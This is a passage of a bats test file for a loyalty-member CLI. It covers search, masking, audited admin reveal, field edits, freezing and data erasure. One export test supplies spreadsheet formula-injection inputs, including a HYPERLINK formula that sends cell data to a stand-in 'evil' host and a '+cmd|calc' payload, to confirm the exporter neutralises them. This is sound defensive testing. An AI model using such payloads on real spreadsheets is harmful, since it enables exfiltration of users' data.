#!/usr/bin/env bats
# mbr-member: find (phone in any spelling, member number, uid, name),
# show, export in every format, masking and --reveal (admins only,
# audited without personal data), set FIELD=VALUE, freeze and unfreeze,
# and erase (personal data gone for good, points history kept, audited,
# `mbr-db check` still passing).  Exit statuses are those of
# mbr-member(1): 1 nothing found or erasure not confirmed, 2 usage,
# 3 bad data, 5 refused.  Every test starts from a fresh database with
# the example members:
#   S01-2 M0001 张伟     13812345678  S01     S01-5 M0004 Ann Lee 15011112222 S02
#   S01-3 M0002 王芳     13900001111  S01     S01-6 M0005 陈静    18633334444 S01
#   S01-4 M0003 李娜     13722223333  S02

bats_require_minimum_version 1.5.0

load common

setup() {
	shop_setup
	mbr-add -q "$EX/members.csv"
	mbr-db -q grant li cashier
	mbr-db -q grant wang manager
	SOCK=$T/tmux.sock
}

teardown() {
	if [ -S "${SOCK:-}" ]; then
		tmux -S "$SOCK" kill-server 2>/dev/null || true
	fi
}

dump() { sqlite3 "$MBR_DB" .dump; }

HEADER="uid,member_no,name,phone,email,birthday,gender,tier,store,status,points,created,note"
M1="S01-2,M0001,张*,138****5678,z***@example.com,****-03-14,M,,S01,active,0,2026-11-22,"
M2="S01-3,M0002,王*,139****1111,w***@example.cn,****-07-02,F,,S01,active,0,2026-11-22,"
M3="S01-4,M0003,李*,137****3333,,****-05-21,F,,S02,active,0,2026-11-22,"
M4="S01-5,M0004,A******,150****2222,a***@example.org,****-12-01,F,,S02,active,0,2026-11-22,"
M5="S01-6,M0005,陈*,186****4444,,,,,S01,active,0,2026-11-22,"
M4_CLEAR="S01-5,M0004,Ann Lee,15011112222,ann.lee@example.org,1979-12-01,F,,S02,active,0,2026-11-22,"

# the audit entries after id $1, as action|target|detail lines
audit_since() { q "SELECT action || '|' || target || '|' || detail FROM audit WHERE id > $1 ORDER BY id"; }
last_audit() { q 'SELECT MAX(id) FROM audit'; }

# ------------------------------------------------------------------ find

@test "find: by phone in any spelling, by member number, by uid: one masked row" {
	for key in 13812345678 '138 1234 5678' '+86 138-1234-5678' 008613812345678 '(138) 1234.5678' M0001 S01-2; do
		echo "== $key"
		run --separate-stderr mbr-member find "$key"
		[ "$status" -eq 0 ]
		[ "$stderr" = "" ]
		[ "$output" = "$(printf '%s\n%s' "$HEADER" "$M1")" ]
	done
	# a cashier may find
	run --separate-stderr mbr-member --operator li find 15011112222
	[ "$status" -eq 0 ]
	[ "${lines[1]}" = "$M4" ]
}

@test "find: otherwise a name search, ignoring ASCII case; Chinese names by substring" {
	mbr-add -q --name 'Joanne Wu' --phone 13300000001
	run --separate-stderr mbr-member find ann
	[ "$status" -eq 0 ]
	[ "${#lines[@]}" -eq 3 ]
	[ "${lines[1]}" = "$M4" ]
	[ "${lines[2]}" = "S01-7,,J********,133****0001,,,,,,active,0,2026-11-22," ]
	run --separate-stderr mbr-member find 芳
	[ "$status" -eq 0 ]
	[ "$output" = "$(printf '%s\n%s' "$HEADER" "$M2")" ]
	run --separate-stderr mbr-member find 'ANN LEE'
	[ "${lines[1]}" = "$M4" ]
}

@test "find: nothing found is exit 1 with a message (none with -q), and no member on stdout" {
	run --separate-stderr mbr-member find Zed
	[ "$status" -eq 1 ]
	[ "$stderr" = "mbr-member: no member matches 'Zed'" ]
	[ "${#lines[@]}" -le 1 ]
	run --separate-stderr mbr-member -q find 13999999999
	[ "$status" -eq 1 ]
	[ "$stderr" = "" ]
	[ "${#lines[@]}" -le 1 ]
}

@test "find: an empty query is a usage error (exit 2), with nothing on stdout" {
	for fmt in csv json; do
		run --separate-stderr mbr-member --format $fmt find ''
		[ "$status" -eq 2 ]
		[ "$output" = "" ]
		[ "${stderr_lines[0]}" = "mbr-member: find needs a non-empty query" ]
	done
}

@test "find: an error before any member is printed prints no header either" {
	# S01-8 (S01-7 is the batch's) gets number S01-9, the uid of the
	# member enrolled next
	printf 'member_no,name,phone\nS01-9,Early,13800000007\nM8,Late,13800000008\n' >f.csv
	mbr-add -q f.csv
	[ "$(mbr-member show --format csv M8 | sed -n '2s/,.*//p')" = S01-9 ]
	run --separate-stderr mbr-member --format csv find S01-9
	echo "$stderr"
	[ "$status" -eq 3 ]
	[ "$output" = "" ]
	[[ "$stderr" == "mbr-member: 'S01-9' is ambiguous: "* ]]
}

@test "find, show: in json, tsv and table" {
	run --separate-stderr mbr-member find M0004 --format json
	[ "$status" -eq 0 ]
	[ "${#lines[@]}" -eq 1 ]
	[ "$(echo "$output" | jq -r '[.uid, .name, .phone, .email, .birthday, .status] | join(" ")')" = "S01-5 A****** 150****2222 a***@example.org ****-12-01 active" ]
	[ "$(echo "$output" | jq '.points | type')" = '"number"' ]
	[ "$(echo "$output" | jq -r 'keys_unsorted | join(",")')" = "$HEADER" ]
	run --separate-stderr mbr-member show M0003 --format tsv
	[ "$status" -eq 0 ]
	[ "$output" = "$(printf '%s\n%s' "$HEADER" "$M3" | tr , '\t')" ]
	run --separate-stderr mbr-member show M0004 --format table
	[ "$status" -eq 0 ]
	[ "$output" = "$(printf '%s\n' 'field      value' 'uid        S01-5' 'member_no  M0004' \
		'name       A******' 'phone      150****2222' 'email      a***@example.org' \
		'birthday   ****-12-01' 'gender     F' 'tier' 'store      S02' 'status     active' \
		'points     0' 'created    2026-11-22' 'note')" ]
}

@test "show: one member by number, phone or uid; a name or an unknown key is exit 3" {
	for key in M0002 13900001111 '139-0000-1111' S01-3; do
		run --separate-stderr mbr-member show "$key"
		[ "$status" -eq 0 ]
		[ "$output" = "$(printf '%s\n%s' "$HEADER" "$M2")" ]
	done
	for key in M9999 王芳 S01-99; do
		run --separate-stderr mbr-member show "$key"
		[ "$status" -eq 3 ]
		[ "$output" = "" ]
		[ "$stderr" = "mbr-member: no member '$key'" ]
	done
}

# ---------------------------------------------------------------- export

@test "export: every member, masked, in the order added; csv, tsv and json lines" {
	run --separate-stderr mbr-member export
	[ "$status" -eq 0 ]
	[ "$stderr" = "" ]
	[ "$output" = "$(printf '%s\n' "$HEADER" "$M1" "$M2" "$M3" "$M4" "$M5")" ]
	run --separate-stderr mbr-member export --format tsv
	[ "$status" -eq 0 ]
	[ "$output" = "$(printf '%s\n' "$HEADER" "$M1" "$M2" "$M3" "$M4" "$M5" | tr , '\t')" ]
	run --separate-stderr mbr-member export --format json
	[ "$status" -eq 0 ]
	[ "${#lines[@]}" -eq 5 ]
	[ "$(printf '%s\n' "$output" | jq -rs 'map(.member_no + ":" + .phone) | join(" ")')" = \
	  "M0001:138****5678 M0002:139****1111 M0003:137****3333 M0004:150****2222 M0005:186****4444" ]
	# the note is left out unless revealed
	[ "$(printf '%s\n' "$output" | jq -rs 'map(.note) | join("")')" = "" ]
	run --separate-stderr mbr-member export --format table
	[ "$status" -eq 0 ]
	[[ "${lines[0]}" == "uid    member_no  name     phone        email "* ]]
	[[ "${lines[4]}" == "S01-5  M0004      A******  150****2222  a***@example.org "* ]]
}

@test "export --excel: a UTF-8 byte order mark and CRLF line ends" {
	mbr-member export --excel >x.csv
	[ "$(head -c 3 x.csv | od -An -tx1 | tr -d ' ')" = efbbbf ]
	[ "$(grep -c $'\r$' x.csv)" -eq 6 ]
	[ "$(tail -c 2 x.csv | od -An -tx1 | tr -d ' ')" = 0d0a ]
	[ "$(sed -n 2p x.csv | tr -d '\r')" = "$M1" ]
	mbr-member export --excel --format tsv >x.tsv
	[ "$(head -c 3 x.tsv | od -An -tx1 | tr -d ' ')" = efbbbf ]
	[ "$(grep -c $'\r$' x.tsv)" -eq 6 ]
}

@test "export --excel: a field a spreadsheet would run as a formula gets a leading quote; numbers stay numbers; a phone stays text" {
	printf '%s\n' 'member_no,name,phone,note' \
		'B1,"=HYPERLINK(""http://evil/?""&A1,""x"")",13800000001,+1+cmd|calc' \
		'B2,@SUM(1),13800000002,-2' 'B3,-12.50,13800000003,- dash' 'B4,Plain,13800000004,=1+1' >inj.csv
	mbr-add -q inj.csv
	mbr-member --reveal export --excel --format csv >x.csv
	[ "$(grep -a ',B1,' x.csv | cut -d, -f2- | tr -d '\r')" = "B1,\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\",\"=\"\"13800000001\"\"\",,,,,,active,0,2026-11-22,'+1+cmd|calc" ]
	[ "$(grep -a ',B2,' x.csv | cut -d, -f2- | tr -d '\r')" = "B2,'@SUM(1),\"=\"\"13800000002\"\"\",,,,,,active,0,2026-11-22,-2" ]
	[ "$(grep -a ',B3,' x.csv | cut -d, -f2- | tr -d '\r')" = "B3,-12.50,\"=\"\"13800000003\"\"\",,,,,,active,0,2026-11-22,'- dash" ]
	[ "$(grep -a ',B4,' x.csv | cut -d, -f2- | tr -d '\r')" = "B4,Plain,\"=\"\"13800000004\"\"\",,,,,,active,0,2026-11-22,'=1+1" ]
	# masked output too ("@******"), and TSV
	mbr-member export --excel --format tsv >x.tsv
	[ "$(grep -a $'\tB2\t' x.tsv | cut -f3)" = "'@******" ]
	# without --excel, CSV stays byte-exact for round trips
	mbr-member --reveal export --format csv >plain.csv
	[ "$(grep -a ',B2,' plain.csv | cut -d, -f2-)" = "B2,@SUM(1),13800000002,,,,,,active,0,2026-11-22,-2" ]
}

@test "export: a manager may, a cashier may not (exit 5, nothing on stdout)" {
	run --separate-stderr mbr-member --operator wang export
	[ "$status" -eq 0 ]
	[ "${#lines[@]}" -eq 6 ]
	run --separate-stderr mbr-member --operator li export
	[ "$status" -eq 5 ]
	[ "$output" = "" ]
	[ "$stderr" = "mbr-member: operator 'li' is cashier; export needs manager" ]
}

# ---------------------------------------------------------------- reveal

@test "--reveal: an admin sees personal data in clear, in every command that prints members" {
	run --separate-stderr mbr-member --reveal find 15011112222
	[ "$status" -eq 0 ]
	[ "${lines[1]}" = "$M4_CLEAR" ]
	run --separate-stderr mbr-member --reveal show M0002 --format json
	[ "$status" -eq 0 ]
	[ "$(echo "$output" | jq -r '[.name, .phone, .email, .birthday, .note] | join("|")')" = "王芳|13900001111|wangfang@example.cn|1990-07-02|prefers email" ]
	run --separate-stderr mbr-member --reveal export
	[ "$status" -eq 0 ]
	[ "${lines[4]}" = "$M4_CLEAR" ]
	[ "${lines[2]}" = "S01-3,M0002,王芳,13900001111,wangfang@example.cn,1990-07-02,F,,S01,active,0,2026-11-22,prefers email" ]
}

@test "--reveal: audited by the uids shown, never by the query, which is personal data" {
	a=$(last_audit)
	mbr-member --reveal find 13812345678 >/dev/null
	mbr-member --reveal find 'Ann Lee' >/dev/null
	mbr-member --reveal show 13900001111 >/dev/null
	mbr-member --reveal export >/dev/null
	run --separate-stderr mbr-member --reveal find Nobody
	[ "$status" -eq 1 ]
	audit_since "$a"
	[ "$(audit_since "$a")" = "$(printf '%s\n' 'member.reveal|find|S01-2' 'member.reveal|find|S01-5' \
		'member.reveal|show|S01-3' 'member.reveal|export|' 'member.reveal|find|')" ]
	[ "$(q "SELECT DISTINCT operator FROM audit WHERE id > $a")" = admin1 ]
	for s in 13812345678 'Ann Lee' 13900001111 Nobody; do
		[ "$(q "SELECT COUNT(*) FROM audit WHERE instr(target || detail, '$s') > 0")" = 0 ]
	done
	mbr-db -q check
}

@test "--reveal: refused for a cashier and a manager (exit 5); nothing printed, nothing audited" {
	a=$(last_audit)
	for op in li wang; do
		for cmd in "find M0001" "show M0001" "export"; do
			run --separate-stderr mbr-member --operator $op --reveal $cmd
			echo "$stderr"
			[ "$status" -eq 5 ]
			[ "$output" = "" ]
			[ "$stderr" = "mbr-member: operator '$op' is $( [ $op = li ] && echo cashier || echo manager ); --reveal needs admin" ]
		done
	done
	[ "$(last_audit)" = "$a" ]
}

# ------------------------------------------------------------------- set

@test "set: fields change by name or alias, values normalised; audited with the field names only" {
	mbr-points -q rules load "$EX/rules.txt"
	a=$(last_audit)
	run --separate-stderr mbr-member --operator wang set M0002 email=Wang.Fang@Example.CN note= 手机号='+86 139 0000 2222' tier=GOLD 生日=1990/7/3
	echo "$stderr"
	[ "$status" -eq 0 ]
	[ "$output" = "" ]
	[ "$stderr" = "mbr-member: S01-3: updated" ]
	[ "$(mbr-member --reveal show --format csv M0002 | sed 1d)" = \
	  "S01-3,M0002,王芳,13900002222,Wang.Fang@example.cn,1990-07-03,F,GOLD,S01,active,0,2026-11-22," ]
	[ "$(audit_since "$a" | head -n 1)" = "member.set|S01-3|email,note,phone,tier,birthday" ]
	# found by the new phone, no longer by the old one
	run --separate-stderr mbr-member find 13900002222
	[ "$status" -eq 0 ]
	run --separate-stderr mbr-member -q find 13900001111
	[ "$status" -eq 1 ]
	mbr-db -q check
}

@test "set: bad values, a taken phone, no key left or no such member are exit 3; nothing written" {
	before=$(dump)
	while IFS='|' read -r args msg; do
		echo "== $args"
		eval "run --separate-stderr mbr-member set $args"
		echo "$stderr"
		[ "$status" -eq 3 ]
		[ "$output" = "" ]
		[ "$stderr" = "mbr-member: $msg" ]
	done <<-'EOF'
	M0001 phone=12|phone: '12' is not a phone number (5-15 digits)
	M0001 email=x@y|email: 'x@y' is not an email address
	M0001 birthday=2030-01-01|birthday: birthday 2030-01-01 is in the future
	M0001 store=S99|store: unknown store 'S99'
	M0001 gender=X|gender: 'X' is not a gender (M, F, male, female, 男, 女)
	M0001 name=ok email=bad|email: 'bad' is not an email address
	M0001 phone=13900001111|phone 139****1111 already belongs to member S01-3
	M0001 member_no=M0002|member_no 'M0002' already belongs to member S01-3
	M0002 member_no=S01-4|member_no: 'S01-4' is the uid of another member
	M0002 name=x member_no=S01-2|member_no: 'S01-2' is the uid of another member
	M0001 member_no= phone=|a member needs a member_no or a phone
	M9999 name=x|no member 'M9999'
	EOF
	[ "$(dump)" = "$before" ]
}

@test "set: usage errors (exit 2), --dry-run writes nothing, a cashier is refused (exit 5)" {
	before=$(dump)
	run --separate-stderr mbr-member set M0001 colour=red
	[ "$status" -eq 2 ]
	[ "${stderr_lines[0]}" = "mbr-member: unknown field 'colour' (member_no, name, phone, email, birthday, gender, tier, store, note)" ]
	run --separate-stderr mbr-member set M0001 justtext
	[ "$status" -eq 2 ]
	[ "${stderr_lines[0]}" = "mbr-member: 'justtext' is not field=value" ]
	run --separate-stderr mbr-member set M0001
	[ "$status" -eq 2 ]
	run --separate-stderr mbr-member -n set M0001 name=Dry
	[ "$status" -eq 0 ]
	[ "$stderr" = "mbr-member: dry run, nothing written" ]
	run --separate-stderr mbr-member --operator li set M0001 name=Cashier
	[ "$status" -eq 5 ]
	[ "$stderr" = "mbr-member: operator 'li' is cashier; changing a member needs manager" ]
	[ "$(dump)" = "$before" ]
}

# -------------------------------------------------------- freeze, unfreeze

@test "freeze/unfreeze: the status changes and is audited; a cashier is refused" {
	a=$(last_audit)
	run --separate-stderr mbr-member --operator wang freeze M0003
	[ "$status" -eq 0 ]
	[ "$stderr" = "mbr-member: S01-4: frozen" ]
	[ "$(mbr-member find M0003 | sed 1d | cut -d, -f10)" = frozen ]
	[ "$(q "SELECT status FROM members WHERE uid = 'S01-4'")" = frozen ]
	# freezing again changes nothing
	run --separate-stderr mbr-member freeze M0003
	[ "$status" -eq 0 ]
	run --separate-stderr mbr-member --operator li unfreeze M0003
	[ "$status" -eq 5 ]
	[ "$stderr" = "mbr-member: operator 'li' is cashier; freezing a member needs manager" ]
	[ "$(q "SELECT status FROM members WHERE uid = 'S01-4'")" = frozen ]
	run --separate-stderr mbr-member unfreeze 13722223333
	[ "$status" -eq 0 ]
	[ "$stderr" = "mbr-member: S01-4: active" ]
	[ "$(mbr-member find M0003 | sed 1d)" = "$M3" ]
	[ "$(audit_since "$a")" = "$(printf '%s\n' 'member.freeze|S01-4|' 'member.unfreeze|S01-4|')" ]
	run --separate-stderr mbr-member -n freeze M0003
	[ "$status" -eq 0 ]
	[ "$(q "SELECT status FROM members WHERE uid = 'S01-4'")" = active ]
	mbr-db -q check
}

# ----------------------------------------------------------------- erase

@test "erase: personal data gone for good, uid, store and points history kept, the balance forfeited; audited; check passes" {
	mbr-points -q earn M0004 120 --reason welcome >/dev/null
	mbr-points -q redeem M0004 20 --reason gift >/dev/null
	id=$(q "SELECT id FROM members WHERE uid = 'S01-5'")
	sealed1=$(q "SELECT hex(pii) FROM member_pii WHERE member = $id")
	mbr-member -q set M0004 note='second version of the sealed data'
	sealed2=$(q "SELECT hex(pii) FROM member_pii WHERE member = $id")
	[ -n "$sealed1" ] && [ -n "$sealed2" ] && [ "$sealed1" != "$sealed2" ]
	ledger=$(q "SELECT * FROM points_ledger WHERE member = $id ORDER BY id")
	# (the search below does find sealed data that is there)
	[[ "$(xxd -p shop.db | tr -d '\n' | tr a-f A-F)" == *"${sealed2:48:64}"* ]]
	a=$(last_audit)
	run --separate-stderr mbr-member --yes erase M0004
	echo "$stderr"
	[ "$status" -eq 0 ]
	[ "$output" = "" ]
	[ "$stderr" = "mbr-member: S01-5: erased" ]
	# the row stays, anonymous; nothing sealed is left for it
	[ "$(mbr-member --reveal show --format csv S01-5 | sed 1d)" = "S01-5,,,,,,,,S02,erased,0,2026-11-22," ]
	[ "$(q "SELECT COUNT(*) FROM member_pii WHERE member = $id")" = 0 ]
	[ "$(q "SELECT COALESCE(card_hash, 'none') || ',' || COALESCE(phone_hash, 'none') FROM members WHERE id = $id")" = "none,none" ]
	# no copy of the sealed data, this version or the one before, in the
	# database files (32 bytes of ciphertext after the 24-byte nonce)
	hex=$(xxd -p shop.db | tr -d '\n' | tr a-f A-F)
	[ "${#hex}" -gt 1000 ]
	[[ "$hex" != *"${sealed1:48:64}"* ]]
	[[ "$hex" != *"${sealed2:48:64}"* ]]
	[ ! -s shop.db-wal ]
	# the points history is untouched, the balance forfeited by one more entry
	[ "$(q "SELECT * FROM points_ledger WHERE member = $id ORDER BY id LIMIT 2")" = "$ledger" ]
	[ "$(q "SELECT kind, points, reason FROM points_ledger WHERE member = $id ORDER BY id LIMIT 1 OFFSET 2")" = "expire|-100|erased" ]
	[ "$(q "SELECT COALESCE(SUM(points), 0) FROM points_balances WHERE member = $id")" = 0 ]
	# no longer found by its number, phone or name
	for key in M0004 15011112222 'Ann Lee'; do
		run --separate-stderr mbr-member -q find "$key"
		[ "$status" -eq 1 ]
	done
	[ "$(audit_since "$a" | head -n 1)" = "member.erase|S01-5|100 points forfeited" ]
	run --separate-stderr mbr-db check
	[ "$status" -eq 0 ]
	# the phone is free again
	run --separate-stderr mbr-add --phone 15011112222
	[ "$status" -eq 0 ]
	[ "$output" = "S01-7" ]
}

@test "erase while another program reads: erased after at most 5 s (not MBR_BUSY_TIMEOUT), and a warning that the database files keep a copy until the last program ends" {
	id=$(q "SELECT id FROM members WHERE uid = 'S01-5'")
	sealed=$(q "SELECT hex(pii) FROM member_pii WHERE member = $id")
	# a reader holding a snapshot until released by a line into the fifo
	# (opened read-write: not blocked in open), or for 120 s at most
	mkfifo release
	{ echo "BEGIN; SELECT COUNT(*) FROM members;"; read -r -t 120 _ <>release; echo "COMMIT;"; } |
		sqlite3 shop.db >/dev/null 3>&- &
	reader=$!
	sleep 1
	start=$(date +%s%N)
	MBR_BUSY_TIMEOUT=600 run --separate-stderr mbr-member --yes erase M0004
	took=$((($(date +%s%N) - start) / 1000000))
	echo "$stderr; took $took ms"
	[ "$status" -eq 0 ]
	# it waited its 5 s, and not MBR_BUSY_TIMEOUT (no upper bound tighter
	# than that: a loaded machine may be slow)
	[ "$took" -ge 4500 ] && [ "$took" -lt 300000 ]
	[ "$stderr" = "mbr-member: S01-5: erased, but a program reading the database kept its write-ahead log from being cleared: a copy of the erased data stays in the database files ($T/shop.db and $T/shop.db-wal) until the last program using the database ends" ]
	[ "$(q "SELECT COUNT(*) FROM member_pii WHERE member = $id")" = 0 ]
	# the copy is the old page, left in the database file itself
	[[ "$(xxd -p shop.db | tr -d '\n' | tr a-f A-F)" == *"${sealed:48:64}"* ]]
	# a shorter MBR_BUSY_TIMEOUT is a shorter wait
	start=$(date +%s%N)
	MBR_BUSY_TIMEOUT=1 run --separate-stderr mbr-member --yes erase M0005
	took=$((($(date +%s%N) - start) / 1000000))
	echo "$stderr; took $took ms"
	[ "$status" -eq 0 ]
	[ "$took" -lt 4500 ]
	[[ "$stderr" == "mbr-member: S01-6: erased, but a program reading"* ]]
	timeout 10 sh -c 'echo >release'
	wait "$reader"
	# the last program to end checkpoints: nothing is left in the files
	mbr-db -q check
	[ ! -e shop.db-wal ] || [ ! -s shop.db-wal ]
	[[ "$(xxd -p shop.db | tr -d '\n' | tr a-f A-F)" != *"${sealed:48:64}"* ]]
}

@test "erase: a positive points balance is forfeited by an expire entry (reason erased), lots emptied, out of the liability; check passes" {
	mbr-sale -q products "$EX/products.csv"
	mbr-points -q rules load "$EX/rules.txt"
	mbr-sale -q import "$EX/sales-2025-03-01.csv"
	mbr-sale -q import "$EX/sales-2025-03-02.csv"
	mbr-points -q earn M0004 500 --reason welcome
	id=$(q "SELECT id FROM members WHERE uid = 'S01-5'")
	[ "$(q "SELECT COALESCE(SUM(points), 0) FROM points_balances WHERE member = $id")" = 620 ]
	[ "$(q "SELECT SUM(remaining) FROM points_lots WHERE member = $id")" = 620 ]
	[ "$(mbr-report liability --format csv | tail -n 1)" = "points,5,891,,891" ]
	a=$(last_audit)
	run --separate-stderr mbr-member --yes erase M0004
	echo "$stderr"
	[ "$status" -eq 0 ]
	[ "$stderr" = "mbr-member: S01-5: erased" ]
	# the lot lapsed by now expires as ever, then the rest is forfeited
	[ "$(q "SELECT kind || ',' || points || ',' || reason || ',' || source FROM points_ledger WHERE member = $id ORDER BY id DESC LIMIT 2")" = "$(printf '%s\n' 'expire,-500,erased,operator' 'expire,-120,lot lapsed,expiry')" ]
	[ "$(q "SELECT COALESCE(SUM(points), 0) FROM points_balances WHERE member = $id")" = 0 ]
	[ "$(q "SELECT SUM(points) FROM points_ledger WHERE member = $id")" = 0 ]
	[ "$(q "SELECT SUM(remaining) FROM points_lots WHERE member = $id")" = 0 ]
	[ "$(mbr-points history S01-5 --format csv | tail -n 1 | cut -d, -f2,3,4,8)" = "expire,-500,0,erased" ]
	[ "$(mbr-report liability --format csv | tail -n 1)" = "points,4,271,,271" ]
	[ "$(audit_since "$a")" = "$(printf '%s\n' 'points.expire||1 lots, 120 points' 'member.erase|S01-5|500 points forfeited')" ]
	run --separate-stderr mbr-db check
	[ "$status" -eq 0 ]
	# the expiry finds nothing left to take
	mbr-points -q expire
	[ "$(q "SELECT COALESCE(SUM(points), 0) FROM points_balances WHERE member = $id")" = 0 ]
}

@test "erase: a debt (negative balance) stays, with no entry; a dry run forfeits nothing" {
	mbr-points -q adjust M0003 -30 --reason correction
	id=$(q "SELECT id FROM members WHERE uid = 'S01-4'")
	n=$(q "SELECT COUNT(*) FROM points_ledger WHERE member = $id")
	mbr-member -q --yes erase M0003
	[ "$(q "SELECT COALESCE(SUM(points), 0) FROM points_balances WHERE member = $id")" = -30 ]
	[ "$(q "SELECT COUNT(*) FROM points_ledger WHERE member = $id")" = "$n" ]
	[ "$(q "SELECT detail FROM audit WHERE action = 'member.erase'")" = "" ]
	mbr-points -q earn M0004 40
	before=$(dump)
	run --separate-stderr mbr-member -n --yes erase M0004
	[ "$status" -eq 0 ]
	[ "$(dump)" = "$before" ]
	mbr-db -q check
}

@test "erase without --yes and no terminal to ask on (stdin a pipe or /dev/null) is a usage error (exit 2); nothing erased" {
	before=$(dump)
	run --separate-stderr mbr-member erase M0004 </dev/null
	echo "$stderr"
	[ "$status" -eq 2 ]
	[ "$output" = "" ]
	[ "${stderr_lines[0]}" = "mbr-member: erase needs --yes when not asked on a terminal" ]
	[[ "${stderr_lines[1]}" == "usage: mbr-member "* ]]
	run --separate-stderr bash -c 'echo S01-5 | mbr-member erase M0004'
	[ "$status" -eq 2 ]
	[ "${stderr_lines[0]}" = "mbr-member: erase needs --yes when not asked on a terminal" ]
	# a dry run erases nothing, and needs no --yes
	run --separate-stderr mbr-member -n erase M0004 </dev/null
	[ "$status" -eq 0 ]
	[ "$stderr" = "mbr-member: dry run, nothing written" ]
	[ "$(dump)" = "$before" ]
	mbr-member -q --yes erase M0004 </dev/null
	[ "$(q "SELECT status FROM members WHERE uid = 'S01-5'")" = erased ]
}

@test "erase: an erased member cannot be erased, changed or frozen again (exit 3)" {
	mbr-member -q --yes erase M0004
	before=$(dump)
	for cmd in "--yes erase S01-5" "set S01-5 name=Back" "freeze S01-5"; do
		run --separate-stderr mbr-member $cmd
		echo "$stderr"
		[ "$status" -eq 3 ]
		[[ "$stderr" == "mbr-member: member S01-5 was "*erased ]]
	done
	run --separate-stderr mbr-add --update --member-no M0004 --name Back
	[ "$status" -eq 0 ]
	[ "$output" != "S01-5" ]
	[ "$(q "SELECT status FROM members WHERE uid = 'S01-5'")" = erased ]
}

@test "erase: refused (exit 3) while the member holds stored value or count-card uses; paid out and refunded, it goes" {
	mbr-card -q topup M0004 100
	card=$(mbr-card --payment cash count-sell M0004 WASH 5 50.00)
	before=$(dump)
	run --separate-stderr mbr-member --yes erase M0004
	echo "$stderr"
	[ "$status" -eq 3 ]
	[ "$output" = "" ]
	[ "$stderr" = "mbr-member: member S01-5 has 100.00 of stored value left; pay it out first (mbr-card payout)" ]
	[ "$(dump)" = "$before" ]
	mbr-card -q payout M0004 >/dev/null
	run --separate-stderr mbr-member --yes erase M0004
	echo "$stderr"
	[ "$status" -eq 3 ]
	[ "$stderr" = "mbr-member: member S01-5 has 5 uses left on count card $card; refund it first (mbr-card count-refund)" ]
	mbr-card -q count-refund "$card" >/dev/null
	run --separate-stderr mbr-member --yes erase M0004
	[ "$status" -eq 0 ]
	[ "$(q "SELECT status FROM members WHERE uid = 'S01-5'")" = erased ]
	mbr-db -q check
}

@test "payout: a frozen member is unfrozen with mbr-member, an erased one is said to be erased (exit 3)" {
	mbr-card -q topup M0004 50
	mbr-member -q freeze M0004
	mbr-card -q unfreeze M0004	# the stored value was not frozen: this changes nothing
	run --separate-stderr mbr-card payout M0004
	echo "$stderr"
	[ "$status" -eq 3 ]
	[ "$stderr" = "mbr-card: member S01-5 is frozen; unfreeze the member with mbr-member unfreeze" ]
	mbr-member -q unfreeze M0004
	mbr-card -q freeze M0004
	run --separate-stderr mbr-card payout M0004
	[ "$status" -eq 3 ]
	[ "$stderr" = "mbr-card: the stored value of member S01-5 is frozen; unfreeze it with mbr-card unfreeze" ]
	mbr-card -q unfreeze M0004
	mbr-sale -q add --member M0004 --payment stored_value R1 X1:1:10.00
	mbr-card -q payout M0004 >/dev/null
	mbr-member -q --yes erase M0004
	# a return credits the erased member's stored value, which cannot be paid out
	mbr-sale -q add --original R1 --payment stored_value R2 X1:-1:10.00
	[ "$(q "SELECT sv_principal FROM members WHERE uid = 'S01-5'")" = 1000 ]
	run --separate-stderr mbr-card payout S01-5
	echo "$stderr"
	[ "$status" -eq 3 ]
	[ "$stderr" = "mbr-card: member S01-5 is erased" ]
}

@test "erase: needs admin (exit 5); a manager changes nothing" {
	before=$(dump)
	run --separate-stderr mbr-member --operator wang --yes erase M0004
	[ "$status" -eq 5 ]
	[ "$output" = "" ]
	[ "$stderr" = "mbr-member: operator 'wang' is manager; erasing a member needs admin" ]
	run --separate-stderr mbr-member -n --yes erase M0004
	[ "$status" -eq 0 ]
	[ "$(dump)" = "$before" ]
}

@test "erase (tty): the uid must be typed to confirm; anything else erases nothing (exit 1)" {
	command -v tmux >/dev/null || skip "tmux is not installed (scripts/install-deps installs it)"
	before=$(dump)
	P="erase the personal data of S01-5 for good? type S01-5 to confirm:"
	for answer in y S01-5; do
		rm -f erase.exit
		tmux -S "$SOCK" new-session -d -s "e$answer" -x 150 -y 20 \
			"env PATH='$PATH' LC_ALL=C.UTF-8 TERM=screen MBR_NOW=$MBR_NOW MBR_OPERATOR=$MBR_OPERATOR mbr-member -d '$MBR_DB' erase M0004 >'$T/erase.out'; echo \$? >'$T/erase.exit'; sleep 60"
		for i in $(seq 600); do
			tmux -S "$SOCK" capture-pane -p -t "e$answer" | grep -qF "$P" && break
			sleep 0.05
		done
		tmux -S "$SOCK" capture-pane -p -t "e$answer" | grep -qF "$P"
		tmux -S "$SOCK" send-keys -t "e$answer" -l "$answer"
		tmux -S "$SOCK" send-keys -t "e$answer" Enter
		for i in $(seq 600); do [ -s erase.exit ] && break; sleep 0.05; done
		tmux -S "$SOCK" capture-pane -p -t "e$answer"
		if [ "$answer" = y ]; then
			[ "$(cat erase.exit)" = 1 ]
			tmux -S "$SOCK" capture-pane -p -t "e$answer" | grep -qF "mbr-member: not erased"
			[ "$(dump)" = "$before" ]
		else
			[ "$(cat erase.exit)" = 0 ]
			[ "$(q "SELECT status FROM members WHERE uid = 'S01-5'")" = erased ]
		fi
	done
}

# ----------------------------------------------------------------- usage

@test "usage: --help and --version to stdout (exit 0); bad commands and options are exit 2" {
	run --separate-stderr mbr-member --help
	[ "$status" -eq 0 ]
	[ "$stderr" = "" ]
	[[ "${lines[0]}" == "usage: mbr-member [-q] [-d file] [--operator name] [--format fmt] [--excel] [--reveal] find query" ]]
	run --separate-stderr mbr-member --version
	[ "$output" = "mbr-member 0.1.0" ]
	for args in "" "frob M0001" "find" "find a b" "show" "export x" "freeze" "--format xml export"; do
		run --separate-stderr mbr-member $args
		echo "== $args: $stderr"
		[ "$status" -eq 2 ]
		[ "$output" = "" ]
		[[ "$stderr" == *"usage: mbr-member "* ]]
	done
}

@test "find and export without the key: exit 4 and nothing on stdout, not even a header" {
	mv "$MBR_DB.key" "$BATS_TEST_TMPDIR/away.key"
	for cmd in "find M0001" export; do
		run --separate-stderr mbr-member $cmd
		[ "$status" -eq 4 ]
		[ "$output" = "" ]
		[[ "$stderr" == *"key file"* ]]
	done
	mv "$BATS_TEST_TMPDIR/away.key" "$MBR_DB.key"
}

@test "a member number that is another member's phone is ambiguous: refused, nothing changed" {
	printf 'member_no,name,phone\n13900000001,Card,13700000001\nM7,Phone,13900000001\n' >pc.csv
